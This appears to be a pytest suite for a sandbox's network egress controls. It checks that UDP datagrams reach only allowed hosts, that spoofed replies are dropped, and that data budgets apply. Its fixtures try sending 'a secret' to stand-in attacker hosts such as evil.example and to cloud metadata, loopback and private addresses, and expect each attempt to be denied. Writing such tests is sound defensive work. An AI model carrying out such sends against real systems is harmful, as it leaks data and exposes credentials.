"""Datagrams as a way out: to addresses and names that no rule allows, past budgets, and answers of others."""

from __future__ import annotations

from typing import Any

import pytest

from attacks.egress.reach import Reach
from support.internet_datagrams import SPOOF
from support.internet_layout import DATAGRAMS, TIME

GOOD = "echo.good.example"
#: Each leads to a server outside.
LEADING_IN = ("metadata.evil.example", "local.evil.example", "private.evil.example")
#: How long to wait for an answer that must come, and for one that must not.
PATIENCE, MOMENT = 20, 1
ADDRESSES = ("11.0.0.66", "169.254.169.254", "100.100.100.200", "127.0.0.1", "10.0.0.5", "8.8.8.8")


def rule(host: str, port: int = DATAGRAMS) -> str:
    return f"udp://[{host}]:{port}" if ":" in host else f"udp://{host}:{port}"


def test_datagrams_reach_what_a_rule_names_and_nothing_else(reach: Reach, backend: dict[str, Any]) -> None:
    others = [*LEADING_IN, "evil.example", *ADDRESSES]
    attack = [[host, DATAGRAMS, "a secret", 8, MOMENT] for host in others]
    good = [[GOOD, DATAGRAMS, "x", 60_000, PATIENCE], ["api.good.example", TIME, "\x1b", 48, PATIENCE]]
    good += [["2a10:600d::30", DATAGRAMS, "x", 1, PATIENCE]] if reach.internet.ipv6 else []
    outside = reach.outside("datagrams", [[*one[:4], PATIENCE] for one in attack] + good)
    assert all(answers and answers[0][1] for answers in outside.values()), outside
    allowed = [*map(rule, LEADING_IN), rule(GOOD), rule("api.good.example", TIME)]
    allowed += [rule("2a10:600d::30")] if reach.internet.ipv6 else []
    inside = reach.inside("datagrams", attack + good, net=allowed, **backend)
    answered = {place: answers for place, answers in inside.verdict.items() if answers != []}
    assert answered.pop("evil.example 7008") == ["no such name"]
    assert answered == {f"{host} {port}": [[size, True]] for host, port, _, size, _ in good}
    assert {one["address"] for one in reach.internet.events("datagram")} <= {
        "11.0.0.30", "11.0.0.10", "2a10:600d::10", "2a10:600d::30",
    }  # fmt: skip
    (passed,) = inside.decisions("udp", name=GOOD, verdict="allowed")
    assert (passed["sent"], passed["received"], passed["rule"]) == (60_000, 60_000, rule(GOOD))
    reasons = {
        one["name"] or one["address"]: one["reason"] for one in inside.decisions("udp", verdict="denied")
    }
    assert reasons == {
        "metadata.evil.example": "metadata address",
        "local.evil.example": "loopback address",
        "private.evil.example": "private address",
        **dict.fromkeys(ADDRESSES, "no rule"),
    }
    hints = {one["target"]: one["hint"] for one in inside.result["denials"] if one["what"] == "datagram"}
    assert hints["udp://8.8.8.8:7008"] == "--net udp://8.8.8.8:7008"
    assert hints["udp://private.evil.example:7008"] == "--net udp://10.0.0.5:7008"


def test_a_rule_for_connections_allows_no_datagram_and_the_other_way_round(reach: Reach) -> None:
    target = [GOOD, DATAGRAMS, "x", 1]
    assert reach.outside("datagrams", [[*target, PATIENCE]])[f"{GOOD} {DATAGRAMS}"] == [[1, True]]
    rules = [f"tcp://{GOOD}:{DATAGRAMS}", rule("8.8.8.8")]
    inside = reach.inside("datagrams", [[*target, MOMENT]], net=rules)
    assert inside.verdict == {f"{GOOD} {DATAGRAMS}": []}
    assert reach.internet.events("datagram") == []
    assert inside.decisions("udp", name=GOOD, verdict="denied", reason="no rule")
    dialled = reach.inside("dials", [[GOOD, 7007, "x"]], net=[rule(GOOD, 7007)])
    assert dialled.verdict == {f"{GOOD} 7007": "ECONNREFUSED"}


def test_only_the_peer_that_was_dialled_is_heard(reach: Reach) -> None:
    spoofed = [GOOD, DATAGRAMS, SPOOF.decode(), 20]
    # The control: a socket that is not connected takes the answers of others.
    assert reach.outside("datagrams", [[*spoofed, PATIENCE]])[f"{GOOD} {DATAGRAMS}"] == [[20, False]] * 2
    inside = reach.inside("datagrams", [[*spoofed, MOMENT]], net=[rule(GOOD)])
    assert inside.verdict == {f"{GOOD} {DATAGRAMS}": []}
    (passed,) = inside.decisions("udp", name=GOOD)
    assert (passed["sent"], passed["received"]) == (20, 0)


@pytest.mark.parametrize(
    ("limits", "arrived"), [({"upload": 3500}, 3), ({"connections": 2}, 2), ({"host_upload": 500}, 0)]
)
def test_a_budget_is_about_datagrams_too(reach: Reach, limits: dict[str, int], arrived: int) -> None:
    attack = [[f"h{number}.wild.good.example", DATAGRAMS, "x", 1000] for number in range(6)]
    assert all(reach.outside("datagrams", [[*one, PATIENCE] for one in attack]).values())
    moments = [[*one, MOMENT] for one in attack]
    inside = reach.inside("datagrams", moments, net=[rule("*.wild.good.example")], limits=limits)
    assert len(reach.internet.events("datagram")) == arrived
    assert {one["clause"] for one in inside.result["denials"]} == {f"limits.{name}" for name in limits}


def test_answers_beyond_the_budget_do_not_come_in(reach: Reach) -> None:
    target = [GOOD, DATAGRAMS, "x", 1000]
    assert reach.outside("datagrams", [[*target, PATIENCE]]) == {f"{GOOD} {DATAGRAMS}": [[1000, True]]}
    inside = reach.inside("datagrams", [[*target, MOMENT]], net=[rule(GOOD)], limits={"download": 999})
    assert inside.verdict == {f"{GOOD} {DATAGRAMS}": []}
    assert inside.decisions("udp", name=GOOD)[0]["received"] == 0
